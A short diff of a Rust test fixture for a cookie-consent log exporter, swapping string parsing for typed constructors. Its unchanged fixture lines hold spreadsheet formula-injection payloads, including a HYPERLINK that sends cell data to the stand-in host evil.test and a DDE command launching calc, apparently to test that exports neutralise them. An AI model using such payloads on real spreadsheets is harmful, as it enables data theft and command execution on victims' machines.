@@ -718,11 +718,11 @@ fn hostile_log(dir: &Path) -> (String, Vec<cookie_policy_consent_log::ConsentRec
         time_ms: 1_795_996_800_000 + index,
         accepted: vec![Category::Necessary],
         rejected: vec![Category::Advertising],
-        revision: "0123456789abcdef".parse().unwrap(),
+        revision: cookie_policy::Revision::new(0x0123_4567_89ab_cdef),
         policy_sha256: "00".repeat(32),
         // A language is a checked tag (`cookie_policy::Language`): no
         // formula or escape can be one.
-        language: "en".parse().unwrap(),
+        language: cookie_policy::Language::EN,
         page: format!("{start}HYPERLINK(\"http://evil.test/?\"&A1,\"shop\")"),
         network: Some(format!("{start}1+1")),
         user_agent: Some(format!("{start}2+5+cmd|' /C calc'!A0, \"quoted\"\r\nnext")),
